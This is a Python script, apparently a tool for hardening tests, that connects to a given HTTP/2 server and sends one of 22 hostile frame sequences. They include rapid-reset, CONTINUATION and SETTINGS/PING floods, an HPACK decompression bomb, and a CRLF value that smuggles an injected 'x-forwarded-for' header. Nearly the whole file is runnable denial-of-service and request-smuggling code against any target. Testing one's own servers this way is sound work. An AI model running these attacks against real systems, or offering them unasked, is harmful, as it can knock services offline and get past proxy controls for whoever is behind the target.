"""A client of HTTP/2 that means no good: h2_bad.py ADDRESS HOST WHAT; prints how the connection ended and what the streams were told.

    rapid-reset          asks and takes back at once, 2000 times
    continuation-flood   a head that goes on in CONTINUATION frames and never ends
    head-bomb            one small head whose indexed fields unpack to megabytes
    big-head             a head of more than 64 KiB
    settings-flood       100,000 SETTINGS that want an answer, none of them read
    ping-flood           the same of PING
    empty-data           a body of 20,000 frames of DATA without a byte
    empty-continuation   a head in 2000 CONTINUATION frames without a byte
    priority-flood       100,000 PRIORITY frames
    window-flood         100,000 WINDOW_UPDATE frames of one byte
    window-overflow      a window that grows beyond 2^31-1
    stream-zero          HEADERS on stream 0
    even-stream          HEADERS on stream 2
    too-many-streams     150 streams at once that never end
    data-beyond-window   more of a body than the window allows
    half-frame           a frame whose second half does not come, then the end
    upper-case           a field name in upper case
    connection-field     a field that is about the connection
    length-lies          a body shorter than its content-length
    no-path              a head without :path
    crlf-in-value        a value that would be two lines of HTTP/1.1
    websocket            CONNECT with :protocol (RFC 8441), which is not offered
"""
import socket
import ssl
import struct
import sys

ADDRESS, HOST, WHAT = sys.argv[1:4]
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, body=b''):
    return struct.pack('>I', len(body))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + body


def text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value


def literal(name, value):
    return b'\0' + text(name) + text(value)


def integer(n, bits, first):
    most = (1 << bits) - 1
    if n < most:
        return bytes([first | n])
    out, n = bytes([first | most]), n - most
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


GET, POST, HTTPS, ROOT = b'\x82', b'\x83', b'\x87', b'\x84'
AUTHORITY = b'\x01' + text(HOST.encode())
HEAD = GET + HTTPS + ROOT + AUTHORITY
BODY = POST + HTTPS + ROOT + AUTHORITY

context = ssl._create_unverified_context()
context.set_alpn_protocols(['h2'])
sock = context.wrap_socket(socket.create_connection((ADDRESS, 443), timeout=10), server_hostname=HOST)
sock.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS, 0, 0))


def one_by_one(frames):
    for each in frames:
        sock.sendall(each)


def many(each, count, at_once=200):
    for _ in range(count // at_once):
        sock.sendall(each * at_once)


def head(block, end=True):
    sock.sendall(frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), 1, block))


def attack():
    if WHAT == 'rapid-reset':
        one_by_one(frame(HEADERS, 5, 2 * i + 1, HEAD) + frame(RST, 0, 2 * i + 1, struct.pack('>I', 8)) for i in range(2000))
    elif WHAT == 'continuation-flood':
        sock.sendall(frame(HEADERS, END_STREAM, 1, HEAD))
        one_by_one(frame(CONTINUATION, 0, 1, literal(b'x', b'y' * 100) * 100) for _ in range(2000))
    elif WHAT == 'empty-continuation':
        sock.sendall(frame(HEADERS, END_STREAM, 1, HEAD))
        many(frame(CONTINUATION, 0, 1), 2000)
    elif WHAT == 'head-bomb':  # a field of 4000 bytes goes into the table once and is named 3000 times
        big = b'\x40' + text(b'x') + integer(3900, 7, 0) + b'y' * 3900
        head(HEAD + big + b'\xbe' * 3000)
    elif WHAT == 'big-head':
        block = HEAD + literal(b'x', b'y' * 120) * 600
        parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]
        sock.sendall(frame(HEADERS, END_STREAM, 1, parts[0]))
        for i, part in enumerate(parts[1:]):
            sock.sendall(frame(CONTINUATION, END_HEADERS if i == len(parts) - 2 else 0, 1, part))
    elif WHAT == 'settings-flood':
        many(frame(SETTINGS, 0, 0, struct.pack('>HI', 3, 100)), 100000)
    elif WHAT == 'ping-flood':
        many(frame(PING, 0, 0, b'12345678'), 100000)
    elif WHAT == 'priority-flood':
        many(frame(PRIORITY, 0, 1, struct.pack('>IB', 0, 1)), 100000)
    elif WHAT == 'window-flood':
        many(frame(WINDOW, 0, 0, struct.pack('>I', 1)), 100000)
    elif WHAT == 'window-overflow':
        sock.sendall(frame(WINDOW, 0, 0, struct.pack('>I', 0x7fffffff)))
    elif WHAT == 'empty-data':
        head(BODY, False)
        many(frame(DATA, 0, 1), 20000)
        sock.sendall(frame(DATA, END_STREAM, 1))
    elif WHAT == 'stream-zero':
        sock.sendall(frame(HEADERS, 5, 0, HEAD))
    elif WHAT == 'even-stream':
        sock.sendall(frame(HEADERS, 5, 2, HEAD))
    elif WHAT == 'too-many-streams':
        one_by_one(frame(HEADERS, 4, 2 * i + 1, BODY) for i in range(150))
    elif WHAT == 'data-beyond-window':
        head(BODY[:2] + b'\x04' + text(b'/slow/') + AUTHORITY, False)
        many(frame(DATA, 0, 1, b'x' * 16384), 400, 8)
    elif WHAT == 'half-frame':
        sock.sendall(frame(HEADERS, 5, 1, HEAD)[:-3])
        sock.shutdown(socket.SHUT_WR)
    elif WHAT == 'upper-case':
        head(HEAD + literal(b'X-Big', b'1'))
    elif WHAT == 'connection-field':
        head(HEAD + literal(b'connection', b'x-forwarded-for'))
    elif WHAT == 'length-lies':
        # At once: behind a head that came alone the pod may have answered already.
        lie = BODY + literal(b'content-length', b'10')
        sock.sendall(frame(HEADERS, END_HEADERS, 1, lie) + frame(DATA, END_STREAM, 1, b'short'))
    elif WHAT == 'no-path':
        head(GET + HTTPS + AUTHORITY)
    elif WHAT == 'crlf-in-value':
        head(HEAD + literal(b'x', b'a\r\nx-forwarded-for: 1.2.3.4'))
    elif WHAT == 'websocket':
        head(b'\x02' + text(b'CONNECT') + literal(b':protocol', b'websocket') + HTTPS + ROOT + AUTHORITY, False)
    else:
        sys.exit('no such thing: ' + WHAT)


got, end = bytearray(), 'open'
try:
    attack()
    sock.settimeout(1.5)
    while True:
        more = sock.recv(65536)
        if not more:
            end = 'closed'
            break
        got += more
except socket.timeout:
    pass
except OSError:
    end = 'closed'

goaway, resets, heads = [], set(), 0
while len(got) >= 9:
    size, kind = int.from_bytes(got[:3], 'big'), got[3]
    if kind == GOAWAY:
        goaway.append(int.from_bytes(got[13:17], 'big'))
    elif kind == RST:
        resets.add(int.from_bytes(got[9:13], 'big'))
    elif kind == HEADERS:
        heads += 1
    del got[:9 + size]
print(end, 'goaway', ','.join(map(str, goaway)) or '-', 'resets', ','.join(map(str, sorted(resets))) or '-', 'answers', heads)
